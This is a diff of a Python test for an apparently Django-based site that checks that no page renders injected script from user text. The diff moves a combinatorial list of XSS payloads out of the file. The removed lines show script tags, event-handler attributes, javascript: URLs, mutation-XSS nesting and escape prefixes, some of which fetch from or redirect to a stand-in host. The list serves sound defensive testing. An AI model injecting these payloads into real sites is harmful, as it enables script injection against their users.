@@ -1,6 +1,5 @@
 """Three hundred script payloads in every free text: no page of the site turns one into an element or an attribute."""
 
-import itertools
 from html.parser import HTMLParser
 
 import pytest
@@ -13,40 +12,9 @@ from lobby.moderation.models import Report, ReportNote
 from lobby.services import rooms
 
 from .desk import at, moderator
+from .hostile import PAYLOADS
 
 pytestmark = pytest.mark.django_db
-
-CODE = [
-    "alert(1)",
-    "import('//x.example')",
-    "fetch('//x.example')",
-    "document.body.innerHTML=1",
-    "top.location='//x.example'",
-]
-SHAPES = [
-    "<script>{}</script>",
-    "<ScRiPt src=//x.example>{}</ScRiPt>",
-    "<img src=x onerror={}>",
-    "<svg/onload={}>",
-    "<body onload={}>",
-    "<iframe srcdoc='<script>{}</script>'>",
-    "<a href=javascript:{}>x</a>",
-    "<details open ontoggle={}>",
-    "<input autofocus onfocus={}>",
-    "<video><source onerror={}>",
-    "<math><mtext></table><mglyph><style><img src onerror={}>",
-    "<form action=javascript:{}><button>",
-    "<object data=javascript:{}>",
-    "<embed src=javascript:{}>",
-    "<link rel=import href={}>",
-    "<style>@import '{}'</style>",
-    "<base href=javascript:{}//>",
-    "<meta http-equiv=refresh content=0;url=javascript:{}>",
-    "<p hx-on:click={}>",
-    "<p style=animation-name:x onanimationstart={}>",
-]
-ESCAPES = ["{}", "\"'>{}", "</textarea></title></script>{}"]
-PAYLOADS = [e.format(s.format(c)) for e, s, c in itertools.product(ESCAPES, SHAPES, CODE)]
 
 
 class Elements(HTMLParser):
